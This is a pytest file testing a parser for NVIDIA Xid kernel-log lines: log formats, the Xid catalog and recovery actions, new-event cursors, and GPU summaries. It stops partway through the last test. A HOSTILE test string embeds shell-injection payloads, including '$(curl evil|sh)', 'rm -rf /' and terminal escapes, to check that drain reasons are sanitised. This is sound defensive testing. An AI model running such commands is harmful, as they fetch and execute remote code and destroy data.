"""acceptance.host.xid: the Xid catalog, kernel-log lines as the NVIDIA driver prints them (samples
in tests/data/xid/), the cursor that finds what is new since the previous check, drain reasons a
hostile line cannot inject into, the reader's command override and timeout, and the summary."""

import os
import re
import time
from pathlib import Path

import pytest

from acceptance.host import kernellog, slurmnode, xid

DATA = Path(__file__).resolve().parents[1] / "data" / "xid"

# Per sample file, every Xid event it holds, in log order: (pci, code, pid, process, action).
EXPECTED = {
    "dmesg.txt": [
        ("0000:18:00", 79, 1234, "python", "reboot"),
        ("0000:18:00", 154, None, None, "reboot"),
        ("0000:2a:00", 13, 48213, "python3", "app"),
        ("0000:2a:00", 13, 48213, "python3", "app"),
        ("0000:2a:00", 43, 48213, "python3", "app"),
        ("0000:3a:00", 48, None, None, "reset_gpu"),
        ("0000:3a:00", 63, None, None, "info"),
        ("0000:3a:00", 94, None, None, "app"),
        ("0000:3a:00", 45, 51002, "python3", "app"),
        ("0000:5d:00", 31, 1942, "pt_main_thread", "app"),
        ("0000:9a:00", 31, 60111, "python", "app"),
        ("0000:ab:00", 119, 2211, "nvidia-smi", "reset_gpu"),
    ],
    "journalctl-k.txt": [
        ("0018:01:00", 149, None, None, "reset_gpu"),
        ("0018:01:00", 154, None, None, "reset_gpu"),
        ("0019:01:00", 145, None, None, "info"),
        ("0008:01:00", 94, 7001, "python3", "app"),
        ("0008:01:00", 154, None, None, "reset_gpu"),
        ("0009:01:00", 154, None, None, "drain"),
    ],
    "dmesg-T.txt": [
        ("0000:cb:00", 13, None, None, "app"),
        ("0000:cb:00", 13, None, None, "app"),
        ("0000:cb:00", 109, 88412, "python", "reset_gpu"),
        ("0000:db:00", 74, None, None, "reset_gpu"),
        ("0000:db:00", 95, 7062, "python", "reset_gpu"),
    ],
    "dmesg-iso.txt": [
        ("0000:18:00", 79, 1234, "python", "reboot"),
        ("0000:18:00", 62, None, None, "reset_gpu"),
    ],
    "journalctl-short.txt": [
        ("0000:10:1c", 63, 1896, None, "info"),
        ("0004:01:00", 79, None, None, "reboot"),
        ("0004:01:00", 119, 430, "nv_queue", "reset_gpu"),
    ],
    "kern-log.txt": [
        ("0000:01:00", 109, 2075, "Stray-Win64-Shi", "reset_gpu"),
        ("0000:03:00", 14, None, None, "info"),
        ("0000:01:00", 38, 1659, None, "info"),
    ],
    # The shapes of real captures (tests/data/xid/README.md names each source).
    "dmesg-decode-iso.txt": [
        ("0000:4c:00", 13, None, None, "app"),
        ("0000:4c:00", 13, None, None, "app"),
        ("0000:4c:00", 13, None, None, "app"),
        ("0000:4c:00", 43, 1204417, "pt_main_thread", "app"),
        ("0000:4c:00", 79, 1291022, "pt_main_thread", "reboot"),  # its "GPU has fallen off the bus." is the same loss
        ("0000:5d:00", 43, 1291030, "pt_main_thread", "app"),
    ],
    "dmesg-T-gsp.txt": [("0000:1b:00", 119, 771204, "dcgm-exporter", "reset_gpu")] * 3,
    "dmesg-T-grep-nvrm.txt": [
        ("0000:00:06", 43, 302118, "pt_main_thread", "app"),
        ("0000:00:06", 43, 305871, "pt_main_thread", "app"),
        ("0000:00:09", 31, 611902, "python3.11", "app"),
        ("0000:00:0a", 94, None, None, "app"),
    ],
    "journal-xid45-caused-by.txt": [
        ("0000:1a:00", 45, 902211, "python3", "app"),
        ("0000:3c:00", 45, 902213, "python3", "app"),
        ("0000:1a:00", 45, 902211, "python3", "app"),
        ("0000:4d:00", 45, 902214, "python3", "app"),
    ],
    "dmesg-fallen-off-bus.txt": [("0000:4e:00", None, None, None, "reboot")],
    "journalctl-rminitadapter.txt": [("0000:2a:00", None, None, None, "reset_gpu")],
}


def sample(name):
    return (DATA / name).read_text()


def shape(events):
    return [(e.pci, e.code, e.pid, e.process, e.action) for e in events]


# -- the samples ----------------------------------------------------------------------------------

def test_every_sample_file_is_checked():
    assert sorted(p.name for p in DATA.glob("*.txt")) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_sample_parses_to_its_events(name):
    events = xid.parse_events(sample(name))
    assert shape(events) == EXPECTED[name]
    for event in events:
        assert event.entry.code == event.code
        assert event.line in sample(name).splitlines()
        assert event.action in xid.ACTIONS and event.why


def test_the_messages_and_stamps_are_the_drivers():
    events = xid.parse_events(sample("dmesg.txt"))
    assert events[0].message == "GPU has fallen off the bus."
    assert events[0].monotonic_us == 4711_093527
    assert events[7].message == "Contained: SM (0x1). RST: No, D-RST: No"
    assert events[9].monotonic_us == 7200_500100  # behind a printk caller id "[ T1946]"
    assert events[10].instance == "GPU-I:01 GPU-CI:00" and events[10].pci == "0000:9a:00"
    assert [e.monotonic_us for e in xid.parse_events(sample("dmesg-T.txt"))] == [None] * 5
    assert xid.parse_events(sample("kern-log.txt"))[0].monotonic_us == 1720_336960  # rsyslog keeps it
    assert xid.parse_events(sample("kern-log.txt"))[2].message == ""  # a line cut after "pid=1659,"


NOISE = [
    "[ 4711.093512] NVRM: GPU at PCI:0000:18:00: GPU-5e5b9a3c-1f0d-7c2b-9e4a-1c2d3e4f5a6b",
    "[ 4711.093520] NVRM: GPU Board Serial Number: 1652322012345",
    "[ 4711.093548] NVRM: A GPU crash dump has been created. If possible, please run",
    "               NVRM: nvidia-bug-report.sh as root to collect this data before",
    "[   12.512345] NVRM: loading NVIDIA UNIX x86_64 Kernel Module  550.90.07  Fri May 31 09:35:42 UTC 2024",
    "[ 4711.093560] nvidia-peermem nv_get_p2p_free_callback:127 ERROR detected invalid context, "
    "skipping further processing",
    "[   14.102030] nvidia_peermem: module verification failed: signature and/or required key missing",
    "[ 7400.000000] nvidia-nvswitch3: SXid (PCI:0000:8a:00.0): 20034, Fatal, Link 45 LTSSM Fault Up",
    "[ 9300.000000] gpu-node-017 kernel: NVRM: nvAssertOkFailedNoLog: Assertion failed: Reset required",
    '[ 7500.000000] audit: type=1400 apparmor="DENIED" name="NVRM: Xid (PCI:0000:18:00): 79, fake" comm="cat"',
    "Feb  1 14:25:33 gpu-node-021 kernel: [ 1722.000000] NVRM: Xid (PCI:0000:01:00): abc, pid=1, not a code",
    "user@host$ echo NVRM: Xid (PCI:0000:18:00): 79, GPU has fallen off the bus.",
    "level=warning msg=NVRM: Xid (PCI:0000:18:00): 79, GPU has fallen off the bus.",
    '[ 7500.000000] audit: type=1400 apparmor="DENIED" name="NVRM: GPU 0000:18:00.0: GPU has fallen off the bus."',
    "-- No entries --",
    "",
    # The lines around an Xid or a lost GPU that are none themselves.
    "[Mon Mar 10 02:11:40 2025] NVRM:      0    76   GSP_RM_CONTROL        0x000000002080014b 0x0000000000000005",
    "[Mon Mar 10 02:11:40 2025] NVRM: GPU2 GSP RPC buffer contains function 76 (GSP_RM_CONTROL) and data 0x0 0x5.",
    "               NVRM: (PCI ID: 10de:2330) installed in this system has",
    "               NVRM: fallen off the bus and is not responding to commands.",
    "[  912.733020] NVRM: The NVIDIA probe routine failed for 1 device(s).",
    "[  912.604417] NVRM: The NVIDIA GPU 0000:4e:00.0",  # alone: its next lines say what it is
    "Mar 02 08:14:55 gpu-node-044 kernel: NVRM: GPU 0000:2a:00.0: rm_init_adapter failed, device minor number 3",
    "Mar 02 08:14:55 gpu-node-044 kernel: NVRM: RmInitAdapter: osInitNvMapping failed, bailing out of RmInitAdapter",
]


@pytest.mark.parametrize("line", NOISE)
def test_noise_is_no_event(line):
    assert xid.parse_line(line) is None


PREFIXES = {
    "": None,
    "[  123.456789] ": 123_456789,
    "<3>[  123.456789] ": 123_456789,
    "[  123.456789] [ T1946] ": 123_456789,
    "[  123.456789] node01 kernel: ": 123_456789,
    "Aug 30 11:43:09 node01 kernel: ": None,
    "Aug 30 11:43:09.123456 node01 kernel: ": None,
    "Aug 30 11:43:09 node01 kernel: [  123.456789] ": 123_456789,
    "[Fri Aug 30 11:43:09 2024] ": None,
    "2024-08-30T11:43:09,460147+00:00 ": None,
    "2024-08-30T11:43:09+0000 node01 kernel: ": None,
    "kern  :err   : [  123.456789] ": 123_456789,
    "kernel: ": None,
    # dmesg -x / --decode with each --time-format (iso is what gpud runs), and the formats that
    # carry no monotonic stamp.
    "kern  :warn  : 2025-01-21T04:41:44,285060+00:00 ": None,
    "kern  :warn  : [Tue Jan 21 04:41:44 2025] ": None,
    "kern  :warn  : [Jan21 04:41] ": None,
    "kern  :warn  : [  +0.000089] ": None,
    "kern  :warn  : [<    0.000089>] ": None,
    "kern  :warn  : ": None,
    "[  123.456789 <    0.000089>] ": 123_456789,  # dmesg -d
    "Tue 2025-01-21 04:41:44 UTC node01 kernel: ": None,  # journalctl -o short-full
    "2025-01-21T04:41:44.285060+00:00 node01 kernel: ": None,  # short-iso-precise, rsyslog RFC 3339
    "1737434504.285060 node01 kernel: ": None,  # journalctl -o short-unix
}


@pytest.mark.parametrize("prefix", sorted(PREFIXES))
def test_every_log_format_gives_the_same_event(prefix):
    event = xid.parse_line(prefix + "NVRM: Xid (PCI:0000:18:00): 79, pid=1234, name=python, "
                                    "GPU has fallen off the bus.")
    assert (event.pci, event.code, event.pid, event.process) == ("0000:18:00", 79, 1234, "python")
    assert event.message == "GPU has fallen off the bus."
    assert event.monotonic_us == PREFIXES[prefix]


def test_a_prefix_no_tool_here_prints_is_no_silent_miss():
    # A log shipper's own prefix: the Xid is found wherever it stands, its stamp is none.
    event = xid.parse_line("2025-01-21 04:41:44.285 WARN [kernel-forwarder] gpu-node-7 | NVRM: Xid "
                           "(PCI:0000:18:00): 79, pid=1234, name=python, GPU has fallen off the bus.")
    assert (event.pci, event.code, event.action, event.monotonic_us) == ("0000:18:00", 79, "reboot", None)


def test_the_pci_address_is_normalized():
    assert xid.parse_line("NVRM: Xid (PCI:0000:CB:00): 13, Graphics Exception").pci == "0000:cb:00"
    assert xid.parse_line("NVRM: Xid (0000:03:00): 14, Channel 00000001").pci == "0000:03:00"
    assert xid.parse_line("NVRM: Xid (PCI:0000:18:00.0): 79, GPU has fallen off the bus.").pci == "0000:18:00"
    assert xid.parse_line("NVRM: Xid (PCI:00018:01:00): 154, x").pci == "0018:01:00"


# -- the catalog ----------------------------------------------------------------------------------

REQUIRED = [13, 31, 32, 38, 43, 44, 45, 48, 61, 62, 63, 64, 68, 69, 74, 79, 92, 94, 95, 109, 110, 119,
            120, 121, 122, 123, 140, 143, 144, 145, 146, 147, 148, 149, 150, 154]


def test_the_catalog_covers_the_codes_that_matter_and_cites_each():
    for code in REQUIRED:
        entry = xid.CATALOG[code]
        assert entry.code == code and entry.name and entry.mnemonic
        assert entry.action in xid.ACTIONS
        assert entry.source.startswith("NVIDIA Xid catalog: ")
    for code, entry in xid.CATALOG.items():
        assert entry.code == code and entry.action in xid.ACTIONS and entry.source


@pytest.mark.parametrize("code, action", [
    (79, "reboot"), (48, "reset_gpu"), (64, "reset_gpu"), (95, "reset_gpu"), (119, "reset_gpu"),
    (74, "reset_gpu"), (109, "reset_gpu"), (13, "app"), (31, "app"), (43, "app"), (45, "app"),
    (68, "app"), (94, "app"), (63, "info"), (92, "info"), (121, "info"), (54, "drain"),
])
def test_catalog_actions(code, action):
    assert xid.lookup(code).action == action


def test_what_the_catalog_does_not_document_is_information_and_says_so():
    for code in (61, 122, 123):
        assert xid.lookup(code).action == "info"
        assert "none documented" in xid.lookup(code).source
    assert "k8s-device-plugin" in xid.lookup(109).source  # it disagrees; the catalog wins
    assert not any(e.action == "rma" for e in xid.CATALOG.values())  # no immediate action is an RMA


def test_an_unknown_code_is_information_never_an_error():
    entry = xid.lookup(999)
    assert (entry.code, entry.name, entry.action) == (999, "unknown XID 999", "info")
    event = xid.parse_line("[  1.000000] NVRM: Xid (PCI:0000:18:00): 999, pid=5, name=<unknown>, future detail")
    assert event.entry == entry and event.action == "info" and event.message == "future detail"
    assert xid.summarize([event]).lines == ("GPU 0000:18:00: Xid 999 (unknown XID 999): info",)


# -- actions named in the message -----------------------------------------------------------------

@pytest.mark.parametrize("tail, action, label", [
    ("0x0 (None) to 0x0 (None)", "info", "None"),
    ("0x0 (None) to 0x1 (GPU Reset Required)", "reset_gpu", "GPU Reset Required"),
    ("0x0 (None) to 0x2 (Node Reboot Required)", "reboot", "Node Reboot Required"),
    ("0x0 (None) to 0x3 (Drain P2P)", "drain", "Drain P2P"),
    ("0x0 (None) to 0x4 (Drain and Reset)", "reset_gpu", "Drain and Reset"),
    ("0x0 (None) to 0x2 (OS Reboot)", "reboot", "OS Reboot"),    # a newer driver's words: NVML's number
    ("0x0 (None) to 0x1 (PF FLR)", "reset_gpu", "PF FLR"),
    ("0x0 (None) to 0x9 (Something New)", "info", "Something New"),  # neither known: not documented
])
def test_xid_154_carries_its_action(tail, action, label):
    event = xid.parse_line(f"NVRM: Xid (PCI:0008:01:00): 154, GPU recovery action changed from {tail}")
    assert (event.action, event.detail) == (action, label)
    assert event.title == f"GPU Recovery Action Changed: {label}"
    assert "154" in event.why
    if label == "Something New":
        assert "not documented" in event.why


def test_an_xid_154_in_another_shape_keeps_the_entrys_action():
    event = xid.parse_line("NVRM: Xid (PCI:0008:01:00): 154, GPU recovery action changed")
    assert (event.action, event.detail, event.why) == ("info", "", xid.lookup(154).source)


@pytest.mark.parametrize("message, action, detail", [
    ("NETIR_LINK_EVT  Fatal   XC0 i0 Link 09 (0x025525c6 0x00000000)", "reset_gpu", "NETIR_LINK_EVT Fatal"),
    ("NETIR/NETIR_INT Fatal XC0 i0 Link 00 (0x00000018 0x00000000)", "reset_gpu", "NETIR/NETIR_INT Fatal"),
    ("RLW_REMAP Nonfatal XC0 i0 Link 00 (0x00000004 0x00000001)", "info", "RLW_REMAP Nonfatal"),
    ("driver-specific detail", "info", ""),
])
def test_nvlink5_errors_follow_their_severity(message, action, detail):
    event = xid.parse_line(f"NVRM: Xid (PCI:0000:04:00): 145, {message}")
    assert (event.action, event.detail) == (action, detail)


@pytest.mark.parametrize("cause, action", [(None, "app"), (149, "app"), (145, "app"), (48, "reset_gpu"),
                                           (79, "reboot")])
def test_an_xid_45_follows_the_xid_that_caused_it(cause, action):
    # WORKFLOW_XID_45: with other Xids, follow those; 149 and 145 carry theirs in their own line.
    tail = f" caused by previous Xid {cause}" if cause else ""
    event = xid.parse_line(f"kernel: NVRM: Xid (PCI:0000:1a:00): 45, pid=902211, name=python3, Ch 00000001{tail}")
    assert (event.code, event.action, event.detail) == (45, action, f"caused by Xid {cause}" if cause else "")
    if cause is None:
        assert event.why == xid.lookup(45).source
    else:
        assert f"Xid {cause}, {xid.lookup(cause).source}" in event.why


def test_the_summary_of_xid_45_names_its_cause():
    assert xid.summarize(xid.parse_events(sample("journal-xid45-caused-by.txt"))).lines == (
        "GPU 0000:1a:00: Xid 45 (Preemptive cleanup, due to previous errors: caused by Xid 149): app",
        "GPU 0000:3c:00: Xid 45 (Preemptive cleanup, due to previous errors: caused by Xid 145): app",
        "GPU 0000:4d:00: Xid 45 (Preemptive cleanup, due to previous errors): app",
    )


# -- the driver's messages that are no Xid --------------------------------------------------------

# The probe's message for a GPU fallen off the bus (osapi.c) is one record over three lines; each
# tool prints it its own way.
FALLEN = ("NVRM: The NVIDIA GPU 0000:4e:00.0", "NVRM: (PCI ID: 10de:2330) installed in this system has",
          "NVRM: fallen off the bus and is not responding to commands.")
RENDERINGS = {
    "dmesg": "[  912.604417] {0}\n               {1}\n               {2}\n",
    "dmesg -T": "[Tue Mar  4 11:40:02 2025] {0}\n                           {1}\n                           {2}\n",
    "dmesg -x": "kern  :err   : [  912.604417] {0}\n" + " " * 30 + "{1}\n" + " " * 30 + "{2}\n",
    "journalctl -o short-monotonic": "[  912.604417] gpu-node-7 kernel: {0}\n{pad}{1}\n{pad}{2}\n",
    "syslog(2), rsyslog imklog": "Mar  4 11:40:02 gpu-node-7 kernel: [  912.604417] {0}\n"
                                "Mar  4 11:40:02 gpu-node-7 kernel: [  912.604417] {1}\n"
                                "Mar  4 11:40:02 gpu-node-7 kernel: [  912.604417] {2}\n",
    "rsyslog, escaped": "Mar  4 11:40:02 gpu-node-7 kernel: {0}#012{1}#012{2}\n",
}


@pytest.mark.parametrize("tool", sorted(RENDERINGS))
def test_a_gpu_fallen_off_the_bus_at_driver_load_is_an_event_however_printed(tool):
    text = RENDERINGS[tool].format(*FALLEN, pad=" " * 35)
    (event,) = xid.parse_events(text)
    assert (event.pci, event.code, event.entry, event.action) == ("0000:4e:00", None, xid.LOST_AT_PROBE, "reboot")
    assert event.message == ("The NVIDIA GPU 0000:4e:00.0 (PCI ID: 10de:2330) installed in this system has "
                             "fallen off the bus and is not responding to commands.")
    assert event.reason() == "NVRM: " + event.message
    assert xid.summarize([event]).lines == (
        "GPU 0000:4e:00: GPU has fallen off the bus at driver load (no Xid): drain, reboot",)
    _, cursor = xid.new_events(text, None, "boot-a")
    assert xid.new_events(text, cursor, "boot-a")[0] == []


@pytest.mark.parametrize("tool", ["syslog(2), rsyslog imklog", "dmesg -T"])
def test_a_read_that_ends_inside_the_record_finds_the_gpu_at_the_next(tool):
    # rsyslog writes the record's lines one by one: a read between them holds no event yet.
    text = RENDERINGS[tool].format(*FALLEN)
    events, cursor = xid.new_events("".join(text.splitlines(True)[:2]), None, "boot-a")
    assert events == []
    events, cursor = xid.new_events(text, cursor, "boot-a")
    assert [e.entry for e in events] == [xid.LOST_AT_PROBE]
    assert xid.new_events(text, cursor, "boot-a")[0] == []


def test_an_unsupported_gpu_is_no_event():
    # The same words start the driver's message for a GPU this driver does not support.
    text = ("[  912.604417] NVRM: The NVIDIA GPU 0000:01:00.0 (PCI ID: 10de:0de3)\n"
            "               NVRM: installed in this system is not supported by the\n"
            "               NVRM: NVIDIA 550.127.05 driver release.\n")
    assert xid.parse_events(text) == []


def test_the_driver_losing_a_gpu_without_an_xid_is_an_event_and_after_its_xid_79_the_same_loss():
    lost = "[ 4711.093541] NVRM: GPU 0000:18:00.0: GPU has fallen off the bus.\n"
    (event,) = xid.parse_events(lost)
    assert (event.pci, event.code, event.entry, event.action) == ("0000:18:00", None, xid.LOST, "reboot")
    assert xid.summarize([event]).lines == ("GPU 0000:18:00: GPU has fallen off the bus (no Xid): drain, reboot",)
    xid_79 = "[ 4711.093527] NVRM: Xid (PCI:0000:18:00): 79, pid=1234, name=python, GPU has fallen off the bus.\n"
    assert [e.code for e in xid.parse_events(xid_79 + lost)] == [79]
    other_gpu = xid_79.replace("0000:18:00", "0000:19:00")
    assert [(e.pci, e.code) for e in xid.parse_events(other_gpu + lost)] == [("0000:19:00", 79), ("0000:18:00", None)]


def test_a_gpu_that_failed_to_initialize_is_an_event():
    (event,) = xid.parse_events(sample("journalctl-rminitadapter.txt"))
    assert (event.pci, event.entry, event.action, event.detail) == (
        "0000:2a:00", xid.INIT_FAILED, "reset_gpu", "status 0x22:0x56:894")
    assert xid.summarize([event]).lines == (
        "GPU 0000:2a:00: GPU initialization failed (RmInitAdapter, no Xid): status 0x22:0x56:894: drain, reset_gpu",)


def test_a_message_that_is_no_xid_takes_the_action_of_the_xid_it_reports():
    assert xid.LOST.action == xid.LOST_AT_PROBE.action == xid.lookup(79).action == "reboot"
    assert xid.INIT_FAILED.action == xid.lookup(143).action == "reset_gpu"
    for entry, code, where in ((xid.LOST, 79, "osHandleGpuLost"), (xid.LOST_AT_PROBE, 79, "osapi.c"),
                               (xid.INIT_FAILED, 143, "RmInitAdapter")):
        assert entry.code is None and where in entry.source and f"as Xid {code}" in entry.source
        assert entry.source.endswith(xid.lookup(code).source)


def test_a_gpu_line_names_the_messages_that_are_no_xid_beside_its_codes():
    text = ("[ 10.000000] NVRM: Xid (PCI:0000:2a:00): 13, pid=5, name=python, Graphics Exception\n"
            "[ 11.000000] NVRM: GPU 0000:2a:00.0: RmInitAdapter failed! (0x22:0x56:894)\n"
            "[ 12.000000] NVRM: Xid (PCI:0000:3b:00): 79, GPU has fallen off the bus.\n"
            "[ 13.000000] NVRM: GPU 0000:3b:00.0: RmInitAdapter failed! (0x25:0x40:1470)\n")
    assert xid.summarize(xid.parse_events(text)).lines == (
        "GPU 0000:2a:00: GPU initialization failed (RmInitAdapter, no Xid): status 0x22:0x56:894: "
        "drain, reset_gpu (also Xid 13)",
        "GPU 0000:3b:00: Xid 79 (GPU has fallen off the bus): drain, reboot "
        "(also GPU initialization failed (RmInitAdapter, no Xid))",
    )


# -- since the last check -------------------------------------------------------------------------

def test_a_second_call_with_the_cursor_finds_nothing_new():
    text = sample("dmesg.txt")
    events, cursor = xid.new_events(text, None, "boot-a")
    assert shape(events) == EXPECTED["dmesg.txt"]
    assert (cursor.boot_id, cursor.monotonic_us, cursor.at_stamp) == ("boot-a", 8100_200000, 2)
    again, cursor2 = xid.new_events(text, cursor, "boot-a")
    assert again == [] and cursor2 == cursor


def test_lines_appended_since_are_found_once():
    text = sample("dmesg.txt")
    _, cursor = xid.new_events(text, None, "boot-a")
    text += ("[ 9000.000001] NVRM: Xid (PCI:0000:ba:00): 95, pid='<unknown>', name=<unknown>, "
             "Uncontained: LTC TAG (0x2,0x0). RST: Yes, D-RST: No\n"
             "[ 9000.000002] nvidia-peermem nv_get_p2p_free_callback:127 ERROR detected invalid context\n")
    events, cursor = xid.new_events(text, cursor, "boot-a")
    assert shape(events) == [("0000:ba:00", 95, None, None, "reset_gpu")]
    assert xid.new_events(text, cursor, "boot-a")[0] == []


def test_a_line_in_the_same_microsecond_as_the_last_seen_is_still_new():
    # The last two lines of dmesg.txt share a stamp; a third printed in that microsecond after the
    # read is new, the two seen are not.
    text = sample("dmesg.txt")
    _, cursor = xid.new_events(text, None, "boot-a")
    text += ("[ 8100.200000] NVRM: Xid (PCI:0000:ab:00): 154, "
             "GPU recovery action changed from 0x0 (None) to 0x1 (GPU Reset Required)\n")
    events, cursor = xid.new_events(text, cursor, "boot-a")
    assert [(e.code, e.action) for e in events] == [(154, "reset_gpu")]
    assert cursor.at_stamp == 3 and xid.new_events(text, cursor, "boot-a")[0] == []


def test_a_reboot_starts_over():
    text = sample("dmesg.txt")
    _, cursor = xid.new_events(text, None, "boot-a")
    assert len(xid.new_events(text, cursor, "boot-b")[0]) == len(EXPECTED["dmesg.txt"])
    # Without boot ids, a clock that went back shows the reboot.
    _, cursor = xid.new_events(text, None, "")
    rebooted = "[   60.000000] NVRM: Xid (PCI:0000:18:00): 79, GPU has fallen off the bus.\n"
    events, cursor = xid.new_events(rebooted, cursor, "")
    assert [e.code for e in events] == [79] and cursor.monotonic_us == 60_000000


# A log without monotonic stamps (dmesg -T and --time-format iso, journalctl -o short) is placed by its
# last lines. Each case: the text the previous check read, the text read now, the events new now.
ISO = sample("dmesg-decode-iso.txt")
XID_43 = ("kern  :warn  : 2025-03-04T12:02:19,330412+00:00 NVRM: Xid (PCI:0000:4c:00): 43, pid=1300001, "
          "name=pt_main_thread, Ch 00000008\n")


def _shift_micros(text, by):
    # dmesg run again: the same lines, each wall-clock stamp some microseconds off.
    return re.sub(r",(\d{6})\+", lambda m: f",{(int(m[1]) + by) % 1_000_000:06d}+", text)


def _shift_seconds(text):
    return re.sub(r"(\d\d:\d\d):(\d\d) 20", lambda m: f"{m[1]}:{(int(m[2]) + 1) % 60:02d} 20", text)


def test_a_log_without_monotonic_stamps_finds_nothing_new_the_second_time():
    for name in ("dmesg-decode-iso.txt", "dmesg-T.txt", "dmesg-T-gsp.txt", "journalctl-short.txt"):
        events, cursor = xid.new_events(sample(name), None, "boot-a")
        assert shape(events) == EXPECTED[name]
        lines = [ln for ln in sample(name).splitlines() if ln.strip()]
        assert cursor.monotonic_us == -1 and len(cursor.tail) == min(len(lines), xid.TAIL_LINES)
        again, cursor2 = xid.new_events(sample(name), cursor, "boot-a")
        assert again == [] and cursor2 == cursor, name


@pytest.mark.parametrize("case, before, now, new, again", [
    ("appended", ISO, ISO + XID_43, [43], []),
    ("dmesg run again: other microseconds", ISO, _shift_micros(ISO + XID_43, 7), [43], []),
    ("rotated: the oldest line gone", ISO, "".join(ISO.splitlines(True)[1:]) + XID_43, [43], []),
    # A repeat of the lines the previous read ended on: the earliest place of those lines decides,
    # so the repeat is new, not taken for the lines already seen; and stays new while it ends the log.
    ("the last lines repeated", ISO, ISO + "".join(ISO.splitlines(True)[-8:]), [13, 13, 13, 43, 79, 43],
     [13, 13, 13, 43, 79, 43]),
    # Stamps printed a second later (dmesg -T works the wall clock out at each run): the previous
    # read's lines are not found, every line is new again; reported twice, never missed.
    ("stamps a second later", sample("dmesg-T.txt"), _shift_seconds(sample("dmesg-T.txt")),
     [13, 13, 109, 74, 95], []),
])
def test_a_log_without_monotonic_stamps_is_placed_by_its_last_lines(case, before, now, new, again):
    _, cursor = xid.new_events(before, None, "boot-a")
    events, cursor = xid.new_events(now, cursor, "boot-a")
    assert [e.code for e in events] == new, case
    assert [e.code for e in xid.new_events(now, cursor, "boot-a")[0]] == again, case


def test_a_log_without_monotonic_stamps_starts_over_at_a_reboot_and_keeps_its_place_on_an_empty_read():
    _, cursor = xid.new_events(ISO, None, "boot-a")
    assert shape(xid.new_events(ISO, cursor, "boot-b")[0]) == EXPECTED["dmesg-decode-iso.txt"]
    assert xid.new_events("", cursor, "boot-a") == ([], cursor)
    assert xid.new_events(ISO, xid.new_events("", cursor, "boot-a")[1], "boot-a")[0] == []


def test_the_cursor_survives_a_state_file():
    for name in ("journalctl-k.txt", "dmesg-decode-iso.txt"):
        _, cursor = xid.new_events(sample(name), None, "7c1f0b2e-0d5c-4d8e-9a4f-1e2d3c4b5a69")
        assert xid.Cursor.loads(cursor.dumps()) == cursor
    # One a check wrote before the cursor had a tail.
    assert xid.Cursor.loads('{"boot_id": "x", "monotonic_us": 5, "at_stamp": 1}') == xid.Cursor("x", 5, 1)
    for junk in ("", "{", "[]", '{"boot_id": "x"}', '{"boot_id": "x", "monotonic_us": "y", "at_stamp": 0}',
                 '{"boot_id": "x", "monotonic_us": 5, "at_stamp": 1, "tail": "ab"}',
                 '{"boot_id": "x", "monotonic_us": 5, "at_stamp": 1, "tail": [1]}'):
        assert xid.Cursor.loads(junk) is None


def test_read_boot_id(tmp_path):
    (tmp_path / "boot_id").write_text("7c1f0b2e-0d5c-4d8e-9a4f-1e2d3c4b5a69\n")
    assert kernellog.read_boot_id(str(tmp_path / "boot_id")) == "7c1f0b2e-0d5c-4d8e-9a4f-1e2d3c4b5a69"
    assert kernellog.read_boot_id(str(tmp_path / "missing")) == ""


# -- drain reasons --------------------------------------------------------------------------------

SAFE = re.compile(r"[A-Za-z0-9 .,:_+\-/()\[\]%=@]*")

HOSTILE = ("[ 4711.093527] NVRM: Xid (PCI:0000:18:00): 13, pid=666, name=$(reboot), "
           "\"quoted\" 'single' `id` $(curl evil|sh); rm -rf / && echo ${HOME} > /etc/x < y "
           "\x1b[31mred\x1b[0m \x1b]0;title\x07 tab\there cr\rhere nul\x00 del\x7f bell\x07 \\ "
           "\u2028 \u00e9 " + "A" * 100_000)


def assert_safe(reason, limit):
    assert SAFE.fullmatch(reason), reason
    assert len(reason) <= limit
    assert reason == reason.strip() and "  " not in reason and not reason.startswith("-")
    assert "[31m" not in reason and "[0m" not in reason and "title" not in reason


def test_a_hostile_line_cannot_inject_into_a_drain_reason():
    event = xid.parse_line(HOSTILE)
    assert event.code == 13 and event.pid == 666 and event.process == "$(reboot)"
    for limit in (None, 40, 500, 1):
        reason = event.reason(limit)
        assert_safe(reason, slurmnode.REASON_MAX if limit is None else limit)
    assert event.reason().startswith("NVRM: Xid (PCI:0000:18:00): 13, pid=666, name= (reboot)")
    assert event.reason(500).count("A") < 500


def test_clean_reason_on_its_own():
    text = "a\nb\r\nc\x1b[1;31md\x1b[0m \"e\" 'f' `g` $(h) ${i} j;k|l&m<n>o*p?q!r~s{t}u#v\\w\x00x"
    cleaned = slurmnode.clean_reason(text, 200)
    assert_safe(cleaned, 200)
    assert cleaned == "a b c d e f g (h) i j k l m n o p q r s t u v w x"
    assert slurmnode.clean_reason("-- -rf x", 10) == "rf x"
    assert slurmnode.clean_reason("x" * 50, 10) == "x" * 10
    assert slurmnode.clean_reason("abc", 0) == ""


def test_a_hostile_line_in_a_log_stays_one_event():
    # Only "\n" ends a line: a carriage return or escape inside a message cannot forge a second one.
    text = ("[    1.000000] NVRM: Xid (PCI:0000:18:00): 13, pid=1, name=x, evil\r"
            "[    1.000001] NVRM: Xid (PCI:0000:19:00): 79, GPU has fallen off the bus.\x1b[2K\n")
    events = xid.parse_events(text)
    assert [(e.pci, e.code) for e in events] == [("0000:18:00", 13)]
    assert_safe(events[0].reason(), slurmnode.REASON_MAX)


# -- the summary ----------------------------------------------------------------------------------

def test_the_summary_names_the_worst_action_and_one_line_per_gpu():
    summary = xid.summarize(xid.parse_events(sample("dmesg.txt")))
    assert summary.worst == "reboot"
    assert summary.lines == (
        "GPU 0000:18:00: Xid 79 (GPU has fallen off the bus): drain, reboot (also Xid 154)",
        "GPU 0000:2a:00: Xid 13 (Graphics Engine Exception): app (also Xid 43)",
        "GPU 0000:3a:00: Xid 48 (Double Bit ECC Error): drain, reset_gpu (also Xid 45, 63, 94)",
        "GPU 0000:5d:00: Xid 31 (GPU memory page fault): app",
        "GPU 0000:9a:00: Xid 31 (GPU memory page fault): app",
        "GPU 0000:ab:00: Xid 119 (GSP RPC Timeout): drain, reset_gpu",
    )


def test_the_summary_of_a_gb200_log_says_what_xid_154_says():
    summary = xid.summarize(xid.parse_events(sample("journalctl-k.txt")))
    assert summary.worst == "reset_gpu"
    assert summary.lines == (
        "GPU 0008:01:00: Xid 154 (GPU Recovery Action Changed: GPU Reset Required): drain, reset_gpu (also Xid 94)",
        "GPU 0009:01:00: Xid 154 (GPU Recovery Action Changed: Drain P2P): drain",
        "GPU 0018:01:00: Xid 149 (NVLINK: NETIR Error: NETIR_LINK_EVT Fatal): drain, reset_gpu (also Xid 154)",
